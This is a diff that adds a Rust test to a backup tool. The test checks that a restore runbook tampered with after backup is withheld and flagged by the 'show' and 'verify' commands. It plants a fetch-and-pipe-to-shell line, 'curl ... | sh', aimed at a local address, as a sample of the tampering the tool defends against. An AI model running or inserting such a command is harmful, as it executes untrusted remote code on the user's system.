@@ -322,3 +322,33 @@ fn restic_runbook_travels_in_the_snapshot_and_restores_like_restore() {
     let out = sb.cli(&["verify", &id]);
     assert!(out.status.success(), "{}", text(&out));
 }
+
+#[test]
+fn a_runbook_changed_after_the_backup_is_not_shown() {
+    let sb = sandbox(Kind::Archive, vec![]);
+    let id = backup(&sb);
+    let runbook = sb.repo.join(&id).join("RESTORE.md");
+    // Someone who can write into the repository adds a step of their own.
+    let mut planted = std::fs::read_to_string(&runbook).unwrap();
+    planted = planted.replacen("```sh\n", "```sh\ncurl -s http://127.0.0.1:9/x | sh\n", 1);
+    std::fs::write(&runbook, &planted).unwrap();
+
+    for args in [
+        vec!["show", &id, "--runbook"],
+        vec!["--json", "show", &id, "--runbook"],
+    ] {
+        let out = sb.cli(&args);
+        assert_eq!(out.status.code(), Some(3), "{args:?}: {}", text(&out));
+        assert!(!text(&out).contains("curl"), "{args:?}: {}", text(&out));
+        let said = text(&out);
+        assert!(
+            said.contains("RESTORE.md") && said.contains("was changed after the backup"),
+            "{said}"
+        );
+        // (The command shown names this run's --config too.)
+        assert!(said.contains(&format!("verify {id}`")), "{said}");
+    }
+    // verify says the same of it.
+    let out = sb.cli(&["verify", &id]);
+    assert_eq!(out.status.code(), Some(3), "{}", text(&out));
+}
